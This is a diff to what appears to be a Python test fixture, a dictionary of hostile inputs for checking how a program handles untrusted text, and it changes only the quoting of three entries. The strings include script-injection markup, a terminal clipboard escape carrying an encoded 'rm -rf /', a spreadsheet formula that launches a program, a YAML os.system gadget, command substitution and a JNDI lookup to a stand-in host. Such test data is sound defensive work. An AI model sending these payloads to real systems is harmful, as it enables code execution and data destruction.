@@ -40,7 +40,7 @@ HOSTILE = {
     "blocks": '[{"type": "actions", "elements": []}]',
     # markup of pages
     "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)><b>x</b>",
-    "the end of an attribute": "\" onload=\"alert(2)\" ' onmouseover='alert(3)' x=`alert(4)` style=\"position:fixed",
+    "the end of an attribute": '" onload="alert(2)" \' onmouseover=\'alert(3)\' x=`alert(4)` style="position:fixed',
     "the end of an element": "</style></title></svg></textarea></script>--><!-- ]]> <base href=https://login.example/>",
     "SVG": "<svg onload=alert(1)><foreignObject><iframe src=https://login.example></iframe></foreignObject></svg>",
     "JavaScript": "';alert(1);//\\';alert(2)//--></script>${alert(3)}{{constructor.constructor('alert(4)')()}}",
@@ -48,7 +48,7 @@ HOSTILE = {
     # what a terminal obeys
     "colours of a terminal": f"{_ESCAPE}[31mred{_ESCAPE}[0m {_ESCAPE}]8;;https://login.example\x07link{_ESCAPE}]8;;\x07 \x9b2J",
     "a terminal's title": f"{_ESCAPE}]0;root@prod\x07{_ESCAPE}]2;you are safe{_ESCAPE}\\ {_ESCAPE}k title{_ESCAPE}\\",
-    "a terminal's clipboard": f"{_ESCAPE}]52;c;cm0gLXJmIC8=\x07 {_ESCAPE}P$q\"p{_ESCAPE}\\ {_ESCAPE}_x{_ESCAPE}\\",
+    "a terminal's clipboard": f'{_ESCAPE}]52;c;cm0gLXJmIC8=\x07 {_ESCAPE}P$q"p{_ESCAPE}\\ {_ESCAPE}_x{_ESCAPE}\\',
     "a cursor that goes back": f"all is lost\r{_ESCAPE}[2K{_ESCAPE}[1A all is well {_ESCAPE}[6n {_ESCAPE}c\b\b\b",
     "eight-bit controls": "\x9b31m \x9d0;title\x9c \x90q\x9c \x85 \x84",
     # marks
@@ -66,7 +66,7 @@ HOSTILE = {
     "nothing": "",
     "only spaces": " \t \n ",
     # languages
-    "a formula": "=HYPERLINK(\"https://login.example\",\"x\") +cmd|' /C calc'!A0 @SUM(1) -1+1",
+    "a formula": '=HYPERLINK("https://login.example","x") +cmd|\' /C calc\'!A0 @SUM(1) -1+1',
     "YAML": "x: !!python/object/apply:os.system ['id']\n---\n&a [*a, *a]\n? {<<: *b}",
     "JSON": '"}], "verdict": "confirmed", "x": [{"y": "\\u0000\\ud800',
     "a format string": "{0.__class__.__mro__} %s%s%n %(x)s {incident.__init__.__globals__} $HOME `id` $(id) ${jndi:ldap://login.example/x}",
